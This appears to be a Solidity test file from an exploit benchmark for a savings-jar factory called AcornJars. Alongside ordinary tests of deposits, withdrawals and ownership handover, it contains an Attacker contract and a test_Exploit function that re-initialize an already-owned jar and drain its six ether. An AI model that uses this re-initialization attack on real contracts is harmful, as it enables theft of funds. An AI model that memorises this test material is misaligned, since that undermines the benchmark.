// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./AcornJars.sol";

// assay-canary-f88d28de-82e5-4918-9301-8694f5676e7d

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// Fills a jar that is somebody's already.
contract Attacker {
    Jar internal jar;

    constructor(Jar jar_) {
        jar = jar_;
    }

    receive() external payable {}

    function run() external {
        jar.initialize(address(this), 0, "");
        jar.take(payable(address(this)), address(jar).balance);
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    AcornJars private acorn;
    Jar private journey; // without a date
    Jar private bicycle; // with one
    Attacker private magpie;
    address private constant NELE = address(0x4E1E);
    address private constant OPA = address(0x09A0);

    function setUp() public {
        vm.warp(1_700_000_000);
        acorn = new AcornJars();
        journey = Jar(payable(acorn.make(NELE, 0, "a journey")));
        bicycle = Jar(payable(acorn.make(NELE, 1_700_000_000 + 90 days, "a bicycle")));
        vm.deal(OPA, 10 ether);
        vm.prank(OPA);
        journey.give{value: 6 ether}("Bon voyage");
        magpie = new Attacker(journey);
    }

    function test_Regular() public {
        require(acorn.count() == 2 && acorn.jarAt(1) == address(bicycle) && acorn.isJar(address(journey)), "made");
        vm.prank(OPA);
        (bool ok, ) = address(bicycle).call{value: 3 ether}("");
        require(ok && bicycle.collected() == 3 ether && bicycle.givenBy(OPA) == 3 ether, "given");

        vm.prank(NELE);
        journey.take(payable(NELE), 1 ether);
        require(NELE.balance == 1 ether, "taken at any time");
        vm.prank(NELE);
        (ok, ) = address(bicycle).call(abi.encodeCall(Jar.take, (payable(NELE), 1 ether)));
        require(!ok, "before the date");
        vm.prank(OPA);
        (ok, ) = address(journey).call(abi.encodeCall(Jar.take, (payable(OPA), 1 ether)));
        require(!ok, "not his");

        (ok, ) = address(bicycle).call(abi.encodeCall(Jar.initialize, (OPA, 0, "")));
        require(!ok, "filled already");
        (ok, ) = acorn.template().call(abi.encodeCall(Jar.initialize, (OPA, 0, "")));
        require(!ok, "the template");

        vm.prank(NELE);
        bicycle.postpone(1_700_000_000 + 100 days);
        vm.prank(NELE);
        bicycle.offer(OPA);
        vm.prank(OPA);
        bicycle.accept();
        vm.warp(1_700_000_000 + 100 days);
        vm.prank(OPA);
        bicycle.take(payable(OPA), 3 ether);
        require(OPA.balance == 4 ether && bicycle.saver() == OPA, "handed over");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// A jar has a saver and a date to come.
    function test_RefusesJars() public {
        vm.expectRevert(Jar.NoSaver.selector);
        acorn.make(address(0), 0, "");
        vm.expectRevert(abi.encodeWithSelector(Jar.BadDate.selector, uint64(block.timestamp)));
        acorn.make(NELE, uint64(block.timestamp), "");
        refuses(NELE, Jar.NotTaken.selector);
        journey.take(payable(address(acorn)), 1);
    }

    /// The saver alone postpones and offers, and only whom it is offered to accepts.
    function test_RefusesStrangers() public {
        refuses(OPA, abi.encodeWithSelector(Jar.SaverOnly.selector, OPA));
        bicycle.postpone(1_700_000_000 + 100 days);
        refuses(OPA, abi.encodeWithSelector(Jar.SaverOnly.selector, OPA));
        bicycle.offer(OPA);
        refuses(OPA, abi.encodeWithSelector(Jar.NotOffered.selector, OPA));
        bicycle.accept();
        refuses(NELE, abi.encodeWithSelector(Jar.BadDate.selector, uint64(1_700_000_000 + 89 days)));
        bicycle.postpone(1_700_000_000 + 89 days);
        refuses(NELE, abi.encodeWithSelector(Jar.BadDate.selector, uint64(1)));
        journey.postpone(1);
    }

    function exploit() public {
        magpie.run();
    }

    function test_Exploit() public {
        exploit();
        require(journey.saver() == address(magpie), "saver unchanged");
        require(address(magpie).balance == 6 ether, "jar still full");
    }

    function target() public view returns (address) {
        return address(journey);
    }

    function attacker() public view returns (address) {
        return address(magpie);
    }
}
